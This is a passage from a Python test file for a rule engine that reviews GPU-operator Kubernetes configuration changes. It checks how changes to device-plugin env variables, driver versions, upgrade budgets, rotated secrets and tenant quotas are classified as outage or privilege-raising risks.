            {"spec.devicePlugin.env.LD_PRELOAD.value"},
        ),
        (
            Request("train-dgx", {}, {"devicePlugin": {"env": [{"name": "A", "value": "/x"}]}}),
            {"spec.devicePlugin.env.A.value"},
        ),
        (request("train-dgx", {"cluster": {"kubernetesVersion": "1.35"}}), {""}),
    ],
    ids=["variable", "variable gone", "Kubernetes"],
)
def test_nothing_is_told_twice(asked: Request, told: set[str]) -> None:
    """A variable is its value, the name stands in the path; and a version has a rule of its own."""
    found, _ = judge(asked, FLEET)
    policy = {"IMP905", "IMP906", "IMP705"}
    assert {effect.where for effect in found.effects if effect.rule in policy} == told


def test_a_driver_that_goes_back_is_one_finding() -> None:
    """It is the driver's rule that tells it; what no DaemonSet shows, its field does."""
    found, _ = judge(request("train-dgx", {"driver": {"version": "580.126.20"}}), FLEET)
    assert [effect.rule for effect in found.red if "580.126.20" in effect.what] == ["IMP703"]
    found, _ = judge(request("train-dgx", {"cluster": {"kubernetesVersion": "1.33"}}), FLEET)
    assert [(effect.rule, effect.tier) for effect in found.effects if "1.33" in effect.what] == [("IMP905", OUTAGE)]


def test_who_is_served_is_said() -> None:
    """A reviewer of `internalTrafficPolicy` learns what it does."""
    found, _ = judge(OUTAGES["exporter's address leads to the own node's"])
    assert any("of its own node, or none" in effect.what for effect in found.red)


def test_a_budget_is_told_once_for_a_pool() -> None:
    """Where a pool goes by the limits of the cluster, one number more is one step, though it stands in two places."""
    found, _ = judge(request("lab-a100", upgrade(maxUnavailable=5, maxParallelUpgrades=4)), FLEET)
    grown = [effect for effect in found.effects if effect.rule == "IMP113"]
    assert len(grown) == len({effect.where for effect in grown}) > 1
    assert all("fleet and upgrade maxUnavailable: 1 -> 5" in effect.what for effect in grown)


def test_a_secret_that_rotates_says_what_reads_it() -> None:
    """Another entry of the store, or another version of it, restarts nothing, and who reads it when is said; how often
    the store is asked is no other value."""

    def told(name: str, **external: Any) -> dict[str, str]:
        found, _ = judge(request("openshift-vgpu", {"secrets": [{"name": name, "external": external}]}))
        return {effect.where: effect.what for effect in found.effects if effect.rule == "IMP209"}

    pinned = {"gridd.conf": {"key": "gpu/licence", "property": "gridd", "version": "7"}}
    assert told("licensing", keys=pinned) == {
        "ExternalSecret nvidia-gpu-operator/licensing": "driver pods read it when they start anew"
    }
    moved = {".dockerconfigjson": {"key": "gpu/registry-2", "property": "dockerconfig"}}
    assert [*told("registry", keys=moved).values()] == ["the kubelet reads it at its next pull"]
    assert not told("registry", refreshInterval="2h")


def test_what_tenants_lose_is_said() -> None:
    """A quota below what may be in use is an outage, whose pods don't come again; what lets more in, or refuses what it
    warned of, is power."""

    def judged(tenancy: Values) -> tuple[int | None, str]:
        found, _ = judge(request("edge-rke2", {"tenancy": tenancy}))
        return found.tier, " ".join(effect.what for effect in found.red)

    less = {"tenants": [{"name": "checkout", "pools": {"shops": {"gpus": 3}}}]}
    tier, why = judged(less)
    assert tier == OUTAGE
    assert "less than its pods use keeps them until they end" in why
    assert judged({"exceptions": {"kyverno": ["disallow-host-path", "restrict-volume-types"]}})[0] == POWER
    assert judged({"admission": {"mode": "Off"}})[0] == POWER
    tier, what = judged({"admission": {"mode": "Deny"}})
    assert tier == POWER
    assert "Deny refuses what Audit only warns of" in what
